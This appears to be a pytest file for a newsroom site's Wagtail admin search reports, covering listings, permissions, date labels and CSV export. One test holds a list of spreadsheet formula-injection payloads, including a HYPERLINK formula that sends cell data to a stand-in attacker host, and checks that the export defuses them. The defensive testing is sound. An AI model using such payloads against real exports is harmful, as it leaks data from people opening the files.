"""The editors' search reports in the admin."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.utils import timezone

from search.models import SearchTermDay

pytestmark = pytest.mark.django_db


@pytest.fixture
def terms():
    today = timezone.localdate()
    SearchTermDay.objects.create(date=today, query_string="fuel price", hits=7)
    SearchTermDay.objects.create(date=today - datetime.timedelta(days=1), query_string="fuel price", hits=5)
    SearchTermDay.objects.create(date=today, query_string="naira", hits=3, no_result_hits=0)
    SearchTermDay.objects.create(date=today, query_string="tinubu speach", hits=4, no_result_hits=4)
    SearchTermDay.objects.create(date=today - datetime.timedelta(days=90), query_string="old news", hits=50)


def rows(response):
    return [
        (row["query_string"], row.get("searches"), row["empty_searches"]) for row in response.context["object_list"]
    ]


def test_popular_searches_report(admin_client, terms):
    response = admin_client.get("/admin/search-reports/popular/")
    assert response.status_code == 200
    # The last 30 days by default, most searched first, days summed.
    assert rows(response) == [("fuel price", 12, 0), ("tinubu speach", 4, 4), ("naira", 3, 0)]
    older = admin_client.get("/admin/search-reports/popular/", {"date_after": "2000-01-01"})
    assert rows(older)[0] == ("old news", 50, 0)
    assert rows(admin_client.get("/admin/search-reports/popular/", {"q": "fuel"})) == [("fuel price", 12, 0)]
    export = admin_client.get("/admin/search-reports/popular/", {"export": "csv"})
    assert b'"fuel price",12,0' in export.getvalue()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_search_report_csv_defuses_formulas_typed_by_readers(client, django_user_model):
    """Readers choose the search terms; an editor opening the export must not run them."""
    today = timezone.localdate()
    for hits, term in enumerate(FORMULAS, start=1):
        SearchTermDay.objects.create(date=today, query_string=term, hits=hits, no_result_hits=hits)
    editor = django_user_model.objects.create_user("desk", password="x")
    editor.user_permissions.add(*Permission.objects.filter(codename__in=["access_admin", "view_searchtermday"]))
    client.force_login(editor)
    for url in ("/admin/search-reports/popular/", "/admin/search-reports/no-results/"):
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
        terms = [row[0] for row in rows[1:]]
        assert sorted(terms) == sorted("'" + term for term in FORMULAS), url


def test_no_result_searches_report(admin_client, terms):
    response = admin_client.get("/admin/search-reports/no-results/")
    assert response.status_code == 200
    assert [(term, empty) for term, _hits, empty in rows(response)] == [("tinubu speach", 4)]
    assert b"Searches with no results" in response.content


def test_reports_need_the_view_permission(client, django_user_model, terms):
    editor = django_user_model.objects.create_user("editor", password="x")
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(editor)
    assert client.get("/admin/search-reports/popular/").status_code in (302, 403)
    group = Group.objects.create(name="Search readers")
    group.permissions.add(Permission.objects.get(codename="view_searchtermday"))
    editor.groups.add(group)
    assert client.get("/admin/search-reports/popular/").status_code == 200


def test_reports_menu_lists_ours_not_the_empty_builtin(admin_client):
    from wagtail.admin.menu import reports_menu

    request = admin_client.get("/admin/").wsgi_request
    names = [item.name for item in reports_menu.menu_items_for_request(request)]
    assert "popular-searches" in names and "searches-with-no-results" in names
    assert "search-terms" not in names


def test_last_searched_names_the_day_not_a_made_up_time(admin_client):
    """Only the day is stored: "Today", "Yesterday" or the date, never "6 hours ago" (midnight to now)."""
    today = timezone.localdate()
    SearchTermDay.objects.create(date=today, query_string="fuel price", hits=7)
    SearchTermDay.objects.create(date=today - datetime.timedelta(days=1), query_string="naira", hits=5)
    earlier = today - datetime.timedelta(days=4)
    SearchTermDay.objects.create(date=earlier, query_string="flood", hits=3, no_result_hits=3)
    from bs4 import BeautifulSoup

    def rows(url):
        soup = BeautifulSoup(admin_client.get(url).content, "html.parser")
        found = {}
        for row in soup.select("table.listing tbody tr"):
            cells = [cell.get_text(" ", strip=True) for cell in row.find_all("td")]
            found[cells[0]] = cells
        return found

    popular = rows("/admin/search-reports/popular/")
    assert "Today" in popular["fuel price"]
    assert "Yesterday" in popular["naira"]
    assert f"{earlier:%-d %b %Y}" in popular["flood"]
    assert not any(" ago" in cell for cells in popular.values() for cell in cells)
    assert f"{earlier:%-d %b %Y}" in rows("/admin/search-reports/no-results/")["flood"]


def test_a_long_junk_term_wraps_inside_its_column(admin_client):
    SearchTermDay.objects.create(date=timezone.localdate(), query_string="x" * 250, hits=2)
    html = admin_client.get("/admin/search-reports/popular/").content.decode()
    cell = html[: html.index("x" * 250)]
    assert 'class="newsroom-breakable"' in cell[cell.rindex("<td") :]
